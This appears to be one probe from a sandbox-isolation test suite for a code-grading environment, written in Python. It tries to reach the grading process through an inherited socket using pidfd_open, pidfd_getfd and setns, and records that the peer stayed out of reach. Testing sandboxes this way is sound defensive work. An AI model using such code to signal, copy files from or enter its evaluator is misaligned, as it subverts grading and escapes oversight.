"""A handle on the process at the other end.

A socket knows who is at its other end: newer kernels hand out a descriptor for that process, whatever namespaces lie between.
With it one may send signals, copy open files out of the process and enter its namespaces. The attack asks for the process that
judges.
"""
# seen: the peer is out of reach
# not against nbgrader: a kernel speaks to its peer over TCP

# %% attack
import ctypes
import os
import socket
import stat

libc = ctypes.CDLL(None, use_errno=True)
SEND_SIGNAL, OPEN, GET_FD, SETNS, PEER = 424, 434, 438, 308, 77


def mischief():
    connections = []
    for number in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                connections.append(socket.socket(fileno=os.dup(number)))
                break
        except OSError:
            pass
    handles = [libc.syscall(OPEN, pid, 0) for pid in (place["pid"], place["victim"], os.getppid() or place["pid"])]
    for connection in connections:
        try:
            handles.append(connection.getsockopt(socket.SOL_SOCKET, PEER))
        except OSError as problem:
            print("the peer has no handle:", problem)
    for handle in handles:
        if handle >= 0:
            if libc.syscall(SEND_SIGNAL, handle, 0, None, 0) == 0:
                escaped("a signal reaches the process at the other end")
            for number in range(64):
                if libc.syscall(GET_FD, handle, number, 0) >= 0:
                    escaped("files of the process at the other end can be taken")
                    break
            if libc.setns(handle, 0x40000000) == 0:
                escaped("it moved to where the process at the other end is")
    print("the peer is out of reach:", os.strerror(ctypes.get_errno()))
